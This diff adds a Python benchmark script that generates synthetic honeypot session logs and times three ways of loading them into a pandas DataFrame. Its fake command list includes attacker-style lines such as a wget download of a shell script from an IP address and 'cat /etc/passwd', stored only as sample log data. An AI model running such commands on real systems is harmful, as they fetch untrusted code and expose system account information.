@@ -0,0 +1,85 @@
+#!/usr/bin/env python3
+"""bench_session_loader.py - Serial vs process-pool session loading.
+
+Generates N synthetic sessions (meta.json header + events.jsonl) under
+--workdir, then times three ways of turning them into a DataFrame:
+
+  legacy    one-row pd.DataFrame per session + pd.concat (old load_vm_sessions)
+  serial    session_loader.load_columns(max_workers=1)
+  parallel  session_loader.load_columns() over a ProcessPoolExecutor
+
+Usage:
+  python scripts/bench_session_loader.py --sizes 10000 100000 1000000 --workdir /data/bench
+
+Generated trees are kept in --workdir and reused across runs; 1M sessions
+needs a few GB of disk and a while to create. --legacy-max caps the size at
+which the (quadratic-ish) legacy path is still measured.
+"""
+import argparse
+import json
+import os
+import sys
+import time
+from pathlib import Path
+
+import pandas as pd
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from src import events
+from src.session_loader import load_columns, vm_session_row
+
+CMDS = ["uname -a", "wget http://203.0.113.9/x.sh", "cat /etc/passwd", "whoami", "ps aux"]
+
+
+def generate(root, n):
+    root.mkdir(parents=True, exist_ok=True)
+    existing = sum(1 for _ in root.iterdir())
+    for i in range(existing, n):
+        sdir = root / f"S-{i:09d}"
+        sdir.mkdir(exist_ok=True)
+        header = {"session_id": sdir.name, "src_ip": f"198.51.{i % 255}.{i % 251}", "src_port": 40000 + i % 20000,
+                  "start_ts": 1700000000 + i, "instance": f"honeypot{i % 5}", "end_time": time.ctime(1700000000 + i)}
+        (sdir / "meta.json").write_text(json.dumps(header), encoding="utf-8")
+        with open(sdir / "events.jsonl", "w", encoding="utf-8") as f:
+            for j in range(8):
+                f.write(json.dumps(events.shell_cmd(CMDS[(i + j) % len(CMDS)], ts=1700000000 + i + j)) + "\n")
+            f.write(json.dumps(events.classification("recon", 0.6, "HIGH", ts=1700000000 + i + 9)) + "\n")
+    return sorted(root.iterdir())[:n]
+
+
+def legacy(dirs):
+    dfs = [pd.DataFrame([vm_session_row(d)]) for d in dirs]
+    return pd.concat(dfs, ignore_index=True)
+
+
+def timed(fn):
+    t0 = time.perf_counter()
+    out = fn()
+    return time.perf_counter() - t0, out
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--sizes", type=int, nargs="+", default=[10000, 100000, 1000000])
+    ap.add_argument("--workdir", default="bench_sessions")
+    ap.add_argument("--workers", type=int, default=os.cpu_count())
+    ap.add_argument("--legacy-max", type=int, default=100000)
+    args = ap.parse_args()
+
+    root = Path(args.workdir)
+    print(f"workers={args.workers}")
+    print(f"{'sessions':>10}{'legacy s':>11}{'serial s':>11}{'parallel s':>12}{'speedup':>9}")
+    for n in args.sizes:
+        dirs = generate(root / "sessions", n)
+        t_legacy = None
+        if n <= args.legacy_max:
+            t_legacy, _ = timed(lambda: legacy(dirs))
+        t_serial, cols = timed(lambda: pd.DataFrame(load_columns(dirs, vm_session_row, max_workers=1)))
+        t_par, cols_p = timed(lambda: pd.DataFrame(load_columns(dirs, vm_session_row, max_workers=args.workers)))
+        assert len(cols) == len(cols_p) == n
+        legacy_s = f"{t_legacy:.2f}" if t_legacy is not None else "-"
+        print(f"{n:>10}{legacy_s:>11}{t_serial:>11.2f}{t_par:>12.2f}{t_serial / t_par:>8.1f}x")
+
+
+if __name__ == "__main__":
+    main()